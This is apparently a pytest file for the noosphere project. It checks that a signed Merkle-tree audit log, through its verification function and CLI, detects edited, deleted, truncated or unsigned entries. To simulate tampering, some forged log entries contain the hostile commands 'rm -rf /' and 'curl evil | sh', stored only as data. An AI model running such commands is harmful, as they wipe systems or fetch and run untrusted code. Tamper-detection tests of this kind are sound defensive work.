"""The signed audit log on a real node: heads are signed and verify; any edit is caught."""

from __future__ import annotations

import json
import os
import sqlite3
import sys

import anyio
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from noosphere.governance.audit import verify_log
from noosphere.identity import KEY_FILE, load_or_create
from noosphere.node import Node


async def fill(node: Node, n: int, start: int = 0) -> None:
    for i in range(start, start + n):
        await node.audit.append("agent:coder", "tool_call", {"tool": "Bash", "subject": f"git log -{i}"})


async def check(node: Node, sample: int = 256) -> list[str]:
    entries, heads = await node.store.audit_entries(), await node.store.tree_heads()
    return verify_log(entries, heads, node.key.public, sample).problems


async def test_signed_heads_verify_and_only_grow(any_node: Node) -> None:
    assert await any_node.audit.sign_head() is None  # nothing to sign yet
    await fill(any_node, 5)
    first = await any_node.audit.sign_head()
    assert first is not None and first.size == 5
    assert await any_node.audit.sign_head() is None  # unchanged log, no new head
    await fill(any_node, 8, start=5)
    second = await any_node.audit.sign_head()
    assert second is not None and second.size == 13
    report = verify_log(
        await any_node.store.audit_entries(), await any_node.store.tree_heads(), any_node.key.public
    )
    assert report.ok, report.problems
    assert (report.heads, report.signed_size, report.consistency_checked, report.inclusion_checked) == (
        2,
        13,
        1,
        13,
    )


async def test_the_node_key_persists_and_other_keys_fail(any_node: Node) -> None:
    await fill(any_node, 3)
    await any_node.audit.sign_head()
    assert load_or_create(any_node.settings.data_dir).public_text == any_node.key.public_text
    assert (any_node.settings.data_dir / KEY_FILE).stat().st_mode & 0o777 == 0o600
    stranger = Ed25519PrivateKey.generate().public_key()
    report = verify_log(await any_node.store.audit_entries(), await any_node.store.tree_heads(), stranger)
    assert any("signature" in p for p in report.problems)


def edit(node: Node, sql: str, *args: object) -> None:
    with sqlite3.connect(node.settings.data_dir / "noosphere.db") as conn:
        conn.execute(sql, args)


async def test_an_edited_entry_fails_verification(node: Node) -> None:
    await fill(node, 6)
    await node.audit.sign_head()
    assert await check(node) == []
    forged = (await node.store.audit_entries(2, 1))[0].entry.replace("git log -2", "rm -rf /")
    edit(node, "UPDATE audit_log SET entry = ? WHERE seq = 2", forged)
    assert any("entry 2 was altered" in p for p in await check(node))


async def test_an_edited_entry_with_a_recomputed_leaf_breaks_the_signed_root(node: Node) -> None:
    from noosphere.governance.merkle import leaf_hash

    await fill(node, 6)
    await node.audit.sign_head()
    forged = (await node.store.audit_entries(4, 1))[0].entry.replace("git log -4", "curl evil | sh")
    edit(node, "UPDATE audit_log SET entry = ?, leaf = ? WHERE seq = 4", forged, leaf_hash(forged.encode()))
    problems = await check(node)
    assert any("no longer produce the signed root" in p for p in problems)
    assert any("not included" in p for p in problems)


async def test_a_deleted_entry_fails_verification(node: Node) -> None:
    await fill(node, 4)
    await node.audit.sign_head()
    edit(node, "DELETE FROM audit_log WHERE seq = 1")
    assert any("entry 1 is missing" in p for p in await check(node))


async def cli(node: Node, *args: str) -> tuple[int, str]:
    where = ["--data-dir", str(node.settings.data_dir)]
    command = [sys.executable, "-m", "noosphere", "audit", *args, *where]
    done = await anyio.run_process(command, check=False, env={**os.environ, "COLUMNS": "300"})  # no wrapping
    return done.returncode, (done.stdout + done.stderr).decode()


async def test_the_cli_verifies_and_reports_tampering(node: Node) -> None:
    await fill(node, 3)
    await node.audit.sign_head()
    code, shown = await cli(node, "show", "--json")
    assert code == 0 and '"tool_call"' in shown
    code, key = await cli(node, "public-key")
    code, ok = await cli(node, "verify", "--public-key", key.strip())
    assert code == 0, ok
    assert "the audit log verifies" in ok
    edit(node, "UPDATE audit_log SET entry = replace(entry, 'coder', 'admin') WHERE seq = 0")
    code, bad = await cli(node, "verify")
    assert code == 1
    assert "entry 0 was altered" in bad


async def test_every_signed_head_is_kept_in_an_append_only_file_beside_the_database(node: Node) -> None:
    from noosphere.governance import head_file

    await fill(node, 3)
    first = await node.audit.sign_head()
    await fill(node, 2, start=3)
    second = await node.audit.sign_head()
    path = node.settings.data_dir / head_file.HEAD_FILE
    assert head_file.read(path) == [first, second]
    assert path.stat().st_mode & 0o777 == 0o600


async def test_a_log_cut_short_with_its_heads_fails_against_the_head_file(node: Node) -> None:
    """Deleting the newest entries together with the signed heads above them used to verify."""
    await fill(node, 4)
    await node.audit.sign_head()
    await fill(node, 4, start=4)
    await node.audit.sign_head()
    edit(node, "DELETE FROM audit_log WHERE seq >= 4")
    edit(node, "DELETE FROM audit_heads WHERE size > 4")
    assert await check(node) == []  # what the database alone says: nothing wrong
    code, shown = await cli(node, "verify")
    assert code == 1
    assert "TRUNCATED: the head file covers 8 entries; the database holds 4" in shown


async def test_an_edited_log_with_every_head_deleted_fails(node: Node) -> None:
    """Editing an entry and deleting all heads used to verify: now the head file, a trusted head
    kept elsewhere, and the lack of any signed head each fail it."""
    await fill(node, 5)
    await node.audit.sign_head()
    code, exported = await cli(node, "heads")
    assert code == 0
    kept = json.loads(exported.strip().splitlines()[-1])
    trusted = f"{kept['size']}:{kept['root']}"
    code, fine = await cli(node, "verify", "--trusted-head", trusted)
    assert code == 0, fine
    from noosphere.governance.merkle import leaf_hash

    forged = (await node.store.audit_entries(1, 1))[0].entry.replace("git log -1", "curl evil | sh")
    edit(node, "UPDATE audit_log SET entry = ?, leaf = ? WHERE seq = 1", forged, leaf_hash(forged.encode()))
    edit(node, "DELETE FROM audit_heads")
    code, shown = await cli(node, "verify")
    assert code == 1 and "REWRITTEN" in shown and "the head file" in shown
    (node.settings.data_dir / "audit-heads.jsonl").unlink()  # the attacker removes the file too
    code, shown = await cli(node, "verify")
    assert code == 1 and "UNSIGNED" in shown
    code, shown = await cli(node, "verify", "--trusted-head", trusted)
    assert code == 1 and "REWRITTEN" in shown and "the trusted head" in shown
